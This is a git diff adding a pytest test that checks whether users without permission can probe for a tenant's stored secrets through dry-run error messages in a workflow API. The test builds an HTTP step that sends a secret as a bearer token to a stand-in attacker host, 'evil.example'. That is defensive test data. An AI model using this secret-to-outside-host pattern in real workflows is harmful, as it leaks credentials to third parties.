@@ -10,6 +10,7 @@ from typing import Any
 
 import pytest
 
+from automate.vault.backends import variable_of
 from tests.support.api import Api
 
 PAGE = (Path(__file__).parents[2] / "docs" / "connector_reference.md").read_text()
@@ -200,3 +201,29 @@ def test_example_of_the_page_is_answered(api: Api) -> None:
 def test_every_role_that_reads_may_ask(tenant: Any, token_for: Callable[..., str]) -> None:
     viewer = Api(token_for(tenant.ref, "viewer"))
     assert shown(viewer, **{"uses": "log.write", "with": {"message": "m"}})["errors"] == []
+
+
+def test_secrets_cannot_be_probed_without_the_permission_to_see_them(
+    api: Api, tenant: Any, token_for: Callable[..., str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(variable_of(tenant.ref.slug, "STRIPE_KEY"), "sk_live_x_and_more")
+    rules = "mutation($i: SaveSecretInput!) { saveSecret(input: $i) { errors { code message } } }"
+    owner = Api(token_for(tenant.ref, "owner"))
+    assert owner.data(rules, i={"name": "STRIPE_KEY", "allowedHosts": ["api.stripe.com"]})["saveSecret"]["errors"] == []
+    viewer, editor = Api(token_for(tenant.ref, "viewer")), Api(token_for(tenant.ref, "editor"))
+
+    def told(asker: Api, name: str, **given: Any) -> list[str]:
+        call = {"url": "https://evil.example/", "auth": {"bearer": f"$secret:{name}"}}
+        answer = shown(asker, **(given or {"uses": "http.request", "with": call}))
+        assert answer["request"] is not None
+        return [error["code"] for error in answer["errors"]]
+
+    assert told(viewer, "STRIPE_KEY") == told(viewer, "NOPE") == []
+    assert told(editor, "STRIPE_KEY") == ["SECRET_NOT_ALLOWED"]
+    assert told(editor, "NOPE") == ["SECRET_UNAVAILABLE"]
+    step = {
+        "key": "call",
+        "uses": "http.request",
+        "with": {"url": "https://x.example/", "auth": {"bearer": "$secret:NOPE"}},
+    }
+    assert told(viewer, "", workflow=saved(api, step), step="call") == ["SECRET_UNAVAILABLE"]
